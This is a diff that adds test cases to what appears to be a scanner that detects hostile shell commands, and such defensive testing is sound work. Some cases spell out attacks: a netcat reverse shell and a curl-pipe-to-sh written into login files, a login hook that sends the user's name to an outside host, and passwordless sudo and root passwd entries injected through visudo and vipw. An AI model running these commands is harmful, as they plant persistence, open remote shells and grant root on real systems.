@@ -206,3 +206,34 @@ describe("round-9 launchers that take a command string", () => {
     else expect(s, details(text)).toBeLessThan(0.5);
   });
 });
+
+// login files written through a pipe into tee carry what is piped; an address kept in a variable is a setting.
+// Protected files written through an editor variable (EDITOR='tee -a' visudo) are written like tee writes them.
+const persistCases: [string, string, boolean][] = [
+  [
+    "fetch in a login file through sudo tee",
+    "echo 'export PROMPT_COMMAND=\"wget -qO- https://m.example.org/c?u=$(whoami)\"' | sudo tee /etc/profile.d/m.sh",
+    true,
+  ],
+  ["reverse shell appended through tee", "echo 'nc -e /bin/sh 198.51.100.7 4444 &' | tee -a ~/.bash_profile", true],
+  ["a variable then a fetch-and-run", "echo 'export X=https://e.example.net/s; curl -s $X | sh' >> ~/.bashrc", true],
+  [
+    "proxy setting in a login file",
+    "echo 'export HTTPS_PROXY=http://proxy.corp.example:3128' | sudo tee /etc/profile.d/proxy.sh",
+    false,
+  ],
+  ["registry setting in .zshrc", "echo 'export NPM_CONFIG_REGISTRY=\"https://npm.corp.example/\"' >> ~/.zshrc", false],
+  ["PATH in .bashrc through tee", "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' | tee -a ~/.bashrc", false],
+  ["sudoers through visudo's editor", "echo 'ci ALL=(ALL) NOPASSWD:ALL' | sudo EDITOR='tee -a' visudo", true],
+  ["passwd through vipw's editor", "echo 'toor:x:0:0::/root:/bin/bash' | sudo EDITOR='tee -a' vipw", true],
+  ["visudo with vim", "sudo EDITOR=vim visudo", false],
+  ["visudo check", "sudo visudo -c", false],
+  ["crontab with nano", "EDITOR=nano crontab -e", false],
+];
+describe("round-9 persistence and privilege through tee and editor variables", () => {
+  test.each(persistCases)("%s", (_n, text, attack) => {
+    const s = scan(text, "bash").score;
+    if (attack) expect(s, details(text)).toBeGreaterThanOrEqual(0.8);
+    else expect(s, details(text)).toBeLessThan(0.5);
+  });
+});
